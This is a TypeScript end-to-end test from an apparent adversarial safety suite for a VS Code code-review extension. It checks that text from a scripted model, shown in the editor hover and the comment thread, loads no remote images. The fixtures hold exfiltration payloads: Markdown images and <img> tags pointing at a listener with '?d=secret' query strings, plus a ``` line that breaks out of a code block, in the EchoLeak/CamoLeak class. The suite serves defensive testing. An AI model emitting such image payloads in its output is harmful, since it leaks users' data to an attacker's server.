// Adversarial suite in the real workbench, host-side surfaces: text from the model shown outside
// Redline's webviews, where VS Code renders Markdown and loads remote images on sight (the
// EchoLeak / CamoLeak class). A fix answer that made no edit goes into the editor's comment thread;
// a proposal's lines go into the editor hover. Both carry remote images (and the proposal a ```
// line to break out of the hover's code block); a loopback listener must see no connection, and
// the text must be shown as written.
import * as assert from 'node:assert/strict';
import { createServer, type Server } from 'node:net';
import type { AddressInfo } from 'node:net';
import * as path from 'node:path';
import type { Json } from '../double/json';
import { textReply, toolReply, turnOf } from '../double/script';
import { AttackLedger } from '../safety/ledger';
import { openRedlineSidebar, openWorkbench, repoRoot, screenshotOnFailure, type Workbench } from './support/workbench';

const ledger = new AttackLedger('webview-surfaces', repoRoot);
const TEMPLATE = path.join(repoRoot, 'test', 'fixtures', 'reviewWorkspace');
const FILE = 'src/totals.ts';

describe('safety: model text in host-side surfaces loads nothing', function () {
  let wb: Workbench | undefined;
  let server: Server;
  // The workbench allows https images only: the listener counts connections (a TLS handshake is the fetch).
  const connections: string[] = [];
  let url = '';

  const fixAnswer = (): string => `I would not change this.\n\n![status](${url}/fix-image?d=secret-from-fix)\n\n<img src="${url}/fix-html">`;
  const hostileLines = (): string => `export const TAX_RATE = 0.21;\n/*\n\`\`\`\n![hover](${url}/hover-image?d=secret-from-hover)\n*/`;

  before(async () => {
    server = createServer((socket) => {
      connections.push(`${socket.remoteAddress}:${socket.remotePort}`);
      socket.destroy();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    url = `https://127.0.0.1:${(server.address() as AddressInfo).port}`;
    wb = await openWorkbench({
      workspaceTemplate: TEMPLATE,
      settings: { 'files.autoSave': 'off' },
      model: ({ body }: { body: Json }) => {
        // A fix request: an answer with no edit, carrying images.
        if (JSON.stringify(body).includes("The reviewer's comment:")) return textReply(fixAnswer());
        return turnOf(body) === 0
          ? toolReply([{ name: 'propose_edit', input: { path: FILE, old_string: 'export const TAX_RATE = 0.2;', new_string: hostileLines(), step: 's2' } }])
          : textReply('Done.');
      },
    });
    const sidebar = await openRedlineSidebar(wb.page);
    await sidebar.getByRole('button', { name: /^Cart totals by quantity/ }).click({ timeout: 30_000 });
    await sidebar.getByRole('button', { name: 'Build', exact: true }).click();
    await sidebar.getByText(/Build · (done|failed)/).waitFor({ timeout: 60_000 });
  });
  after(async () => {
    ledger.write();
    await wb?.close();
    await new Promise<void>((resolve) => server.close(() => resolve()));
  });
  screenshotOnFailure(() => wb);

  it('the listener works (control): a connection from the test is counted', async () => {
    await fetch(`${url}/control`).catch(() => undefined);
    assert.equal(connections.length, 1, 'the control connection must be seen');
    connections.splice(0);
  });

  async function openFile(): Promise<void> {
    const page = wb!.page;
    await page.keyboard.press('Control+P');
    await page.locator('.quick-input-widget input').fill(FILE);
    await page.locator('.quick-input-list .monaco-list-row', { hasText: 'totals.ts' }).first().click();
  }

  it('the editor hover shows a proposal with a ``` line and an image as text, and loads nothing', async () => {
    const page = wb!.page;
    await openFile();
    const editor = page.locator(`.monaco-editor[data-uri$="/${FILE}"]`).first();
    await editor.locator('.codelens-decoration a', { hasText: 'Ask fix' }).first().waitFor({ timeout: 30_000 });
    const line = editor.locator('.view-lines .view-line', { hasText: 'TAX_RATE = 0.2;' }).first();
    const hover = page.locator('.monaco-hover', { hasText: 'Redline' }).first();
    for (let attempt = 0; attempt < 5 && !(await hover.isVisible()); attempt++) {
      await line.hover({ position: { x: 5, y: 5 } });
      await hover.waitFor({ timeout: 4000 }).catch(() => undefined);
    }
    await hover.waitFor({ timeout: 5000 });
    await page.waitForTimeout(1500);
    // Escaped text keeps its spaces as no-break spaces.
    const text = (await hover.innerText()).replace(/\u00a0/g, ' ');
    const images = await hover.locator('img').evaluateAll((els) => els.map((e) => e.getAttribute('src') ?? ''));
    const remote = images.filter((src) => src.includes('127.0.0.1'));
    const shownLiterally = text.includes('![hover](') && text.includes('```');
    const blocked = ledger.record(
      'host surface',
      'editor hover: a proposal line ``` then ![hover](https://127.0.0.1/…?d=secret)',
      connections.length === 0 && remote.length === 0 && shownLiterally,
      `listener saw ${connections.length} connections; ${remote.length} remote <img> in the hover; shown as text: ${shownLiterally}`,
    );
    assert.ok(blocked, `hover: ${connections.length} connections, images ${JSON.stringify(images)}, text ${JSON.stringify(text.slice(0, 400))}`);
    await page.keyboard.press('Escape');
  });

  it('a fix answer that made no edit is shown in the comment thread as text, and loads nothing', async () => {
    const page = wb!.page;
    const editor = page.locator(`.monaco-editor[data-uri$="/${FILE}"]`).first();
    await editor.locator('.codelens-decoration a', { hasText: 'Ask fix' }).first().click();
    const form = page.locator('.review-widget .comment-form').first();
    await form.waitFor({ timeout: 30_000 });
    await form.click();
    await page.keyboard.type('Keep the old rate');
    await page.locator('.review-widget').getByRole('button', { name: 'Ask Redline to Fix' }).first().click();
    const answer = page.locator('.review-widget .review-comment', { hasText: 'proposed no change' }).first();
    await answer.waitFor({ timeout: 60_000 });
    await page.waitForTimeout(1500);
    const text = (await answer.innerText()).replace(/\u00a0/g, ' ');
    const images = await page.locator('.review-widget img').evaluateAll((els) => els.map((e) => e.getAttribute('src') ?? ''));
    const remote = images.filter((src) => src.includes('127.0.0.1'));
    const shownLiterally = text.includes('![status](') && text.includes('<img src=');
    const blocked = ledger.record(
      'host surface',
      'fix comment thread: the answer carries ![status](https://127.0.0.1/…?d=secret) and <img src>',
      connections.length === 0 && remote.length === 0 && shownLiterally,
      `listener saw ${connections.length} connections; ${remote.length} remote <img> in the thread; shown as text: ${shownLiterally}`,
    );
    assert.ok(blocked, `thread: ${connections.length} connections, images ${JSON.stringify(images)}, text ${JSON.stringify(text.slice(0, 400))}`);
  });
});
